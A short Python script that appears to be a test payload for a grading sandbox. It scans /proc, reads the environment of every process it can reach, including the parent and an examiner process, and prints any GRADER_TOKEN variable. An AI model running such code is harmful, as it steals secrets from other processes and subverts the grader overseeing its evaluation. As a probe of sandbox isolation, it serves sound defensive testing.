"""Prints the environment of every process that it finds.

Alone: secret
"""

import contextlib
import os

print("the payload ran", flush=True)
pids = [pid for pid in range(1, 1 << 16) if pid in (1, os.getppid(), int("@examiner@"))]
with contextlib.suppress(OSError):
    pids += [int(name) for name in os.listdir("/proc") if name.isdigit()]
for pid in pids:
    with contextlib.suppress(OSError):
        for word in open(f"/proc/{pid}/environ", "rb").read().split(b"\0"):
            if word.startswith(b"GRADER_TOKEN"):
                print(word)
